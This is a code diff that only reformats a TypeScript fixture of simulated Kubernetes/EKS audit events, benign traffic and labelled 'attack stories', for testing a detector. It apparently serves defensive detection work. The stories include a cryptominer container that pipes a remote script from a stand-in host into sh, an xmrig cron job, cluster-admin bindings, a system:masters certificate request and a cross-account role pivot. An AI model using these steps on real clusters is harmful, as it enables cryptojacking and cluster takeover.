@@ -75,9 +75,38 @@ export function benignTraffic(rounds = 30): AuditEvent[] {
       ev(node(n), 'create', { resource: 'serviceaccounts', subresource: 'token', namespace: 'shop', name: 'web' }),
       ev(system('system:kube-controller-manager'), 'update', { resource: 'leases', namespace: 'kube-system', name: 'kube-controller-manager', apiGroup: 'coordination.k8s.io' }),
       ev(system('system:kube-scheduler'), 'create', { resource: 'pods', subresource: 'binding', namespace: 'shop', name: `web-${i}` }),
-      ev(sa('kube-system', 'replicaset-controller'), 'create', { resource: 'pods', namespace: 'shop' }, { requestObject: pod([{ name: 'web', image: `${REGISTRY}/web:2.${i}` }, { name: 'envoy', image: 'public.ecr.aws/appmesh/aws-appmesh-envoy:v1.29' }]) }),
-      ev(sa('kube-system', 'daemon-set-controller'), 'create', { resource: 'pods', namespace: 'kube-system' }, { requestObject: pod([{ name: 'aws-node', image: `${EKS_REGISTRY}/amazon-k8s-cni:v1.19.0`, securityContext: { privileged: true } }], { hostNetwork: true, volumes: [{ name: 'cni', hostPath: { path: '/etc/cni/net.d' } }, { name: 'run', hostPath: { path: '/var/run/aws-node' } }, { name: 'xtables', hostPath: { path: '/run/xtables.lock' } }] }) }),
-      ev(sa('kube-system', 'daemon-set-controller'), 'create', { resource: 'pods', namespace: 'kube-system' }, { requestObject: pod([{ name: 'kube-proxy', image: `${EKS_REGISTRY}/eks/kube-proxy:v1.33.0-eksbuild.2`, securityContext: { privileged: true } }], { hostNetwork: true, volumes: [{ name: 'modules', hostPath: { path: '/lib/modules' } }] }) }),
+      ev(
+        sa('kube-system', 'replicaset-controller'),
+        'create',
+        { resource: 'pods', namespace: 'shop' },
+        {
+          requestObject: pod([
+            { name: 'web', image: `${REGISTRY}/web:2.${i}` },
+            { name: 'envoy', image: 'public.ecr.aws/appmesh/aws-appmesh-envoy:v1.29' },
+          ]),
+        },
+      ),
+      ev(
+        sa('kube-system', 'daemon-set-controller'),
+        'create',
+        { resource: 'pods', namespace: 'kube-system' },
+        {
+          requestObject: pod([{ name: 'aws-node', image: `${EKS_REGISTRY}/amazon-k8s-cni:v1.19.0`, securityContext: { privileged: true } }], {
+            hostNetwork: true,
+            volumes: [
+              { name: 'cni', hostPath: { path: '/etc/cni/net.d' } },
+              { name: 'run', hostPath: { path: '/var/run/aws-node' } },
+              { name: 'xtables', hostPath: { path: '/run/xtables.lock' } },
+            ],
+          }),
+        },
+      ),
+      ev(
+        sa('kube-system', 'daemon-set-controller'),
+        'create',
+        { resource: 'pods', namespace: 'kube-system' },
+        { requestObject: pod([{ name: 'kube-proxy', image: `${EKS_REGISTRY}/eks/kube-proxy:v1.33.0-eksbuild.2`, securityContext: { privileged: true } }], { hostNetwork: true, volumes: [{ name: 'modules', hostPath: { path: '/lib/modules' } }] }) },
+      ),
       ev(sa('kube-system', 'aws-node'), 'get', { resource: 'nodes', name: n }),
       ev(sa('kube-system', 'aws-node'), 'list', { resource: 'pods' }),
       ev(sa('kube-system', 'coredns'), 'watch', { resource: 'endpointslices', apiGroup: 'discovery.k8s.io' }),
@@ -95,14 +124,28 @@ export function benignTraffic(rounds = 30): AuditEvent[] {
     )
     if (i % 3 === 0) {
       // The kubelet rotating its serving certificate, approved by EKS.
-      out.push(ev(node(n), 'create', { resource: 'certificatesigningrequests', name: `csr-k${i}`, apiGroup: 'certificates.k8s.io' }, { requestObject: { kind: 'CertificateSigningRequest', metadata: { generateName: 'csr-' }, spec: { request: csrPem(`/O=system:nodes/CN=system:node:${n}`), signerName: 'kubernetes.io/kubelet-serving', usages: ['digital signature', 'server auth'] } } }))
+      out.push(
+        ev(
+          node(n),
+          'create',
+          { resource: 'certificatesigningrequests', name: `csr-k${i}`, apiGroup: 'certificates.k8s.io' },
+          { requestObject: { kind: 'CertificateSigningRequest', metadata: { generateName: 'csr-' }, spec: { request: csrPem(`/O=system:nodes/CN=system:node:${n}`), signerName: 'kubernetes.io/kubelet-serving', usages: ['digital signature', 'server auth'] } } },
+        ),
+      )
       out.push(ev(system('eks:certificate-controller'), 'update', { resource: 'certificatesigningrequests', subresource: 'approval', name: `csr-k${i}` }))
     }
     if (i % 5 === 0) {
       // A CI run: the app's deployment, config, service, and its IRSA service account, all in the app's namespace.
       out.push(
         ev(CI, 'patch', { resource: 'deployments', namespace: 'shop', name: 'web', apiGroup: 'apps' }, { requestObject: deployment('web', [{ name: 'web', image: `${REGISTRY}/web:2.${i}`, args: ['--port=8080'] }]) }),
-        ev(CI, 'create', { resource: 'configmaps', namespace: 'shop', name: `web-config-${i}` }, { requestObject: { kind: 'ConfigMap', metadata: { name: `web-config-${i}` }, data: { LOG_LEVEL: 'info', FEATURE_FLAGS: 'checkout-v2', DB_PASSWORD_FILE: '/run/secrets/db/password', 'application.properties': 'spring.datasource.url=jdbc:postgresql://db:5432/shop\nspring.datasource.password=${DB_PASSWORD}\n' } } }),
+        ev(
+          CI,
+          'create',
+          { resource: 'configmaps', namespace: 'shop', name: `web-config-${i}` },
+          {
+            requestObject: { kind: 'ConfigMap', metadata: { name: `web-config-${i}` }, data: { LOG_LEVEL: 'info', FEATURE_FLAGS: 'checkout-v2', DB_PASSWORD_FILE: '/run/secrets/db/password', 'application.properties': 'spring.datasource.url=jdbc:postgresql://db:5432/shop\nspring.datasource.password=${DB_PASSWORD}\n' } },
+          },
+        ),
         ev(CI, 'patch', { resource: 'services', namespace: 'shop', name: 'web' }, { requestObject: { kind: 'Service', metadata: { name: 'web' }, spec: { type: 'ClusterIP', ports: [{ port: 80 }] } } }),
         ev(CI, 'patch', { resource: 'serviceaccounts', namespace: 'shop', name: 'web' }, { requestObject: { kind: 'ServiceAccount', metadata: { name: 'web', annotations: { 'eks.amazonaws.com/role-arn': `arn:aws:iam::${ACCOUNT}:role/shop-web` } } } }),
         ev(CI, 'create', { resource: 'jobs', namespace: 'shop', name: `migrate-${i}`, apiGroup: 'batch' }, { requestObject: { kind: 'Job', metadata: { name: `migrate-${i}` }, spec: { template: { spec: { containers: [{ name: 'migrate', image: `${REGISTRY}/web:2.${i}`, command: ['./migrate'] }] } } } } }),
@@ -130,44 +173,114 @@ export function attackStories(): Story[] {
   const stolen = sa('shop', 'web')
   const mallory = iam('mallory', 'Developer', 'mallory@example.com')
   return [
-    { name: 'stolen service account token looks for Secrets', atLeast: 'LOW', events: [
-      ev(stolen, 'list', { resource: 'secrets', namespace: 'shop' }, denied),
-      ev(stolen, 'get', { resource: 'secrets', namespace: 'kube-system', name: 'aws-credentials' }, denied),
-      ev(stolen, 'list', { resource: 'secrets' }, denied),
-    ] },
-    { name: 'cross-account IRSA pivot in kube-system', atLeast: 'HIGH', events: [
-      ev(mallory, 'create', { resource: 'serviceaccounts', namespace: 'kube-system', name: 'node-metrics' }, { requestObject: { kind: 'ServiceAccount', metadata: { name: 'node-metrics', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/attacker' } } } }),
-    ] },
+    { name: 'stolen service account token looks for Secrets', atLeast: 'LOW', events: [ev(stolen, 'list', { resource: 'secrets', namespace: 'shop' }, denied), ev(stolen, 'get', { resource: 'secrets', namespace: 'kube-system', name: 'aws-credentials' }, denied), ev(stolen, 'list', { resource: 'secrets' }, denied)] },
+    {
+      name: 'cross-account IRSA pivot in kube-system',
+      atLeast: 'HIGH',
+      events: [ev(mallory, 'create', { resource: 'serviceaccounts', namespace: 'kube-system', name: 'node-metrics' }, { requestObject: { kind: 'ServiceAccount', metadata: { name: 'node-metrics', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/attacker' } } } })],
+    },
     { name: 'plain service account in kube-system by a person', atLeast: 'MEDIUM', events: [ev(ALICE, 'create', { resource: 'serviceaccounts', namespace: 'kube-system', name: 'helper' }, { requestObject: { kind: 'ServiceAccount', metadata: { name: 'helper' } } })] },
-    { name: "stolen aws-node token looks for Secrets", atLeast: 'LOW', events: [
-      ev(sa('kube-system', 'aws-node'), 'list', { resource: 'secrets', namespace: 'kube-system' }, denied),
-      ev(sa('kube-system', 'aws-node'), 'get', { resource: 'secrets', namespace: 'prod', name: 'db' }, denied),
-      ev(sa('kube-system', 'aws-node'), 'list', { resource: 'secrets' }, denied),
-    ] },
-    { name: 'cross-account role on a kube-system service account by server-side apply, as the certificate admin', atLeast: 'HIGH', events: [
-      ev(CERT_ADMIN, 'patch', { resource: 'serviceaccounts', namespace: 'kube-system', name: 'collector' }, { responseStatus: { code: 201 }, requestObject: { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'collector', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/collector' } } } }),
-    ] },
+    {
+      name: 'stolen aws-node token looks for Secrets',
+      atLeast: 'LOW',
+      events: [ev(sa('kube-system', 'aws-node'), 'list', { resource: 'secrets', namespace: 'kube-system' }, denied), ev(sa('kube-system', 'aws-node'), 'get', { resource: 'secrets', namespace: 'prod', name: 'db' }, denied), ev(sa('kube-system', 'aws-node'), 'list', { resource: 'secrets' }, denied)],
+    },
+    {
+      name: 'cross-account role on a kube-system service account by server-side apply, as the certificate admin',
+      atLeast: 'HIGH',
+      events: [
+        ev(
+          CERT_ADMIN,
+          'patch',
+          { resource: 'serviceaccounts', namespace: 'kube-system', name: 'collector' },
+          { responseStatus: { code: 201 }, requestObject: { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'collector', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/collector' } } } },
+        ),
+      ],
+    },
     { name: 'NodePort backdoor service', atLeast: 'LOW', events: [ev(mallory, 'create', { resource: 'services', namespace: 'shop', name: 'ssh' }, { requestObject: { kind: 'Service', metadata: { name: 'ssh' }, spec: { type: 'NodePort', ports: [{ port: 22, nodePort: 31222 }] } } })] },
-    { name: 'system:masters certificate requested and approved', atLeast: 'HIGH', events: [
-      ev(mallory, 'create', { resource: 'certificatesigningrequests', name: 'mallory-admin', apiGroup: 'certificates.k8s.io' }, { requestObject: { kind: 'CertificateSigningRequest', metadata: { name: 'mallory-admin' }, spec: { request: csrPem('/O=system:masters/CN=mallory'), signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] } } }),
-    ] },
+    {
+      name: 'system:masters certificate requested and approved',
+      atLeast: 'HIGH',
+      events: [
+        ev(
+          mallory,
+          'create',
+          { resource: 'certificatesigningrequests', name: 'mallory-admin', apiGroup: 'certificates.k8s.io' },
+          { requestObject: { kind: 'CertificateSigningRequest', metadata: { name: 'mallory-admin' }, spec: { request: csrPem('/O=system:masters/CN=mallory'), signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] } } },
+        ),
+      ],
+    },
     { name: 'impersonating system:admin', atLeast: 'MEDIUM', events: [ev(DEV, 'list', { resource: 'secrets', namespace: 'kube-system' }, { impersonatedUser: { username: 'system:admin', groups: ['system:masters'] } })] },
-    { name: 'cryptominer deployment with stolen CI credentials', atLeast: 'HIGH', events: [
-      ev(CI, 'create', { resource: 'deployments', namespace: 'shop', name: 'cache-warmer', apiGroup: 'apps' }, { requestObject: deployment('cache-warmer', [{ name: 'w', image: 'alpine:3.20', command: ['sh', '-c'], args: ['apk add curl && curl -sL http://x/x | sh -s -- -o stratum+tcp://pool.minexmr.com:4444 -u 47abc'] }]) }),
-    ] },
-    { name: 'miner image in a cron job', atLeast: 'HIGH', events: [ev(mallory, 'create', { resource: 'cronjobs', namespace: 'batch', name: 'nightly', apiGroup: 'batch' }, { requestObject: { kind: 'CronJob', metadata: { name: 'nightly' }, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { containers: [{ name: 'n', image: 'docker.io/xmrig/xmrig:6.21' }] } } } } } } })] },
-    { name: 'exec logged at ResponseStarted only', atLeast: 'LOW', events: [ev(mallory, 'create', { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' }, { stage: 'ResponseStarted', responseStatus: { code: 101 }, requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?command=sh&stdin=true&tty=true' })] },
-    { name: 'pods/exec cluster role by the certificate admin', atLeast: 'MEDIUM', events: [
-      ev(CERT_ADMIN, 'create', { resource: 'clusterroles', name: 'debugger', apiGroup: 'rbac.authorization.k8s.io' }, { requestObject: { kind: 'ClusterRole', metadata: { name: 'debugger' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec'], verbs: ['get', 'create'] }] } }),
-    ] },
-    { name: 'privileged sidecar through a deployment', atLeast: 'MEDIUM', events: [
-      ev(mallory, 'create', { resource: 'deployments', namespace: 'shop', name: 'web-canary', apiGroup: 'apps' }, { requestObject: deployment('web-canary', [{ name: 'web', image: `${REGISTRY}/web:2.0` }, { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } }]) }),
-      ev(sa('kube-system', 'replicaset-controller'), 'create', { resource: 'pods', namespace: 'shop' }, { requestObject: pod([{ name: 'web', image: `${REGISTRY}/web:2.0` }, { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } }]) }),
-    ] },
+    {
+      name: 'cryptominer deployment with stolen CI credentials',
+      atLeast: 'HIGH',
+      events: [
+        ev(
+          CI,
+          'create',
+          { resource: 'deployments', namespace: 'shop', name: 'cache-warmer', apiGroup: 'apps' },
+          { requestObject: deployment('cache-warmer', [{ name: 'w', image: 'alpine:3.20', command: ['sh', '-c'], args: ['apk add curl && curl -sL http://x/x | sh -s -- -o stratum+tcp://pool.minexmr.com:4444 -u 47abc'] }]) },
+        ),
+      ],
+    },
+    {
+      name: 'miner image in a cron job',
+      atLeast: 'HIGH',
+      events: [
+        ev(
+          mallory,
+          'create',
+          { resource: 'cronjobs', namespace: 'batch', name: 'nightly', apiGroup: 'batch' },
+          { requestObject: { kind: 'CronJob', metadata: { name: 'nightly' }, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { containers: [{ name: 'n', image: 'docker.io/xmrig/xmrig:6.21' }] } } } } } } },
+        ),
+      ],
+    },
+    {
+      name: 'exec logged at ResponseStarted only',
+      atLeast: 'LOW',
+      events: [ev(mallory, 'create', { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' }, { stage: 'ResponseStarted', responseStatus: { code: 101 }, requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?command=sh&stdin=true&tty=true' })],
+    },
+    {
+      name: 'pods/exec cluster role by the certificate admin',
+      atLeast: 'MEDIUM',
+      events: [ev(CERT_ADMIN, 'create', { resource: 'clusterroles', name: 'debugger', apiGroup: 'rbac.authorization.k8s.io' }, { requestObject: { kind: 'ClusterRole', metadata: { name: 'debugger' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec'], verbs: ['get', 'create'] }] } })],
+    },
+    {
+      name: 'privileged sidecar through a deployment',
+      atLeast: 'MEDIUM',
+      events: [
+        ev(
+          mallory,
+          'create',
+          { resource: 'deployments', namespace: 'shop', name: 'web-canary', apiGroup: 'apps' },
+          {
+            requestObject: deployment('web-canary', [
+              { name: 'web', image: `${REGISTRY}/web:2.0` },
+              { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } },
+            ]),
+          },
+        ),
+        ev(
+          sa('kube-system', 'replicaset-controller'),
+          'create',
+          { resource: 'pods', namespace: 'shop' },
+          {
+            requestObject: pod([
+              { name: 'web', image: `${REGISTRY}/web:2.0` },
+              { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } },
+            ]),
+          },
+        ),
+      ],
+    },
     { name: 'Secrets listed from a Tor exit', atLeast: 'HIGH', events: [ev(ALICE, 'list', { resource: 'secrets', namespace: 'shop' }, { sourceIPs: [TOR_EXIT] })] },
     { name: 'refused call from a block-listed address', atLeast: 'MEDIUM', events: [ev(iam('unknown', 'ReadOnly', 'x'), 'list', { resource: 'nodes' }, { sourceIPs: [BLOCKLISTED], ...denied })] },
     { name: 'anonymous access allowed', atLeast: 'HIGH', events: [ev(system('system:anonymous'), 'list', { resource: 'pods' }, { requestURI: '/api/v1/pods', sourceIPs: ['192.0.2.99'] })] },
-    { name: 'cluster-admin for the default service account', atLeast: 'HIGH', events: [ev(mallory, 'create', { resource: 'clusterrolebindings', name: 'default-admin' }, { requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'default-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'shop' }] } })] },
+    {
+      name: 'cluster-admin for the default service account',
+      atLeast: 'HIGH',
+      events: [ev(mallory, 'create', { resource: 'clusterrolebindings', name: 'default-admin' }, { requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'default-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'shop' }] } })],
+    },
     { name: 'aws-auth edited by a person', atLeast: 'MEDIUM', events: [ev(mallory, 'patch', { resource: 'configmaps', namespace: 'kube-system', name: 'aws-auth' }, { requestObject: { data: { mapRoles: '- rolearn: arn:aws:iam::444455556666:role/x\n  username: x\n  groups: [system:masters]' } } })] },
     { name: 'port-forward to the database', atLeast: 'LOW', events: [ev(mallory, 'create', { resource: 'pods', subresource: 'portforward', namespace: 'shop', name: 'db-0' }, { stage: 'ResponseStarted', responseStatus: { code: 101 } })] },
     { name: 'container runtime socket mounted', atLeast: 'MEDIUM', events: [ev(mallory, 'create', { resource: 'pods', namespace: 'shop', name: 'tools' }, { requestObject: pod([{ name: 't', image: 'ubuntu:24.04' }], { volumes: [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }] }) })] },
@@ -176,6 +289,10 @@ export function attackStories(): Story[] {
     { name: 'system cluster role edited by a person', atLeast: 'MEDIUM', events: [ev(mallory, 'patch', { resource: 'clusterroles', name: 'system:aggregate-to-view' }, { requestObject: [{ op: 'add', path: '/rules/-', value: { apiGroups: [''], resources: ['secrets'], verbs: ['get'] } }] })] },
     { name: 'debug container added to a running pod', atLeast: 'MEDIUM', events: [ev(mallory, 'patch', { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'shop', name: 'web-1' })] },
     { name: 'exec into a kube-system pod', atLeast: 'MEDIUM', events: [ev(DEV, 'create', { resource: 'pods', subresource: 'exec', namespace: 'kube-system', name: 'aws-node-abcde' }, { stage: 'ResponseStarted', responseStatus: { code: 101 } })] },
-    { name: 'binding to cluster-admin', atLeast: 'MEDIUM', events: [ev(mallory, 'create', { resource: 'clusterrolebindings', name: 'mallory-admin' }, { requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'mallory-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'mallory' }] } })] },
+    {
+      name: 'binding to cluster-admin',
+      atLeast: 'MEDIUM',
+      events: [ev(mallory, 'create', { resource: 'clusterrolebindings', name: 'mallory-admin' }, { requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'mallory-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'mallory' }] } })],
+    },
   ]
 }
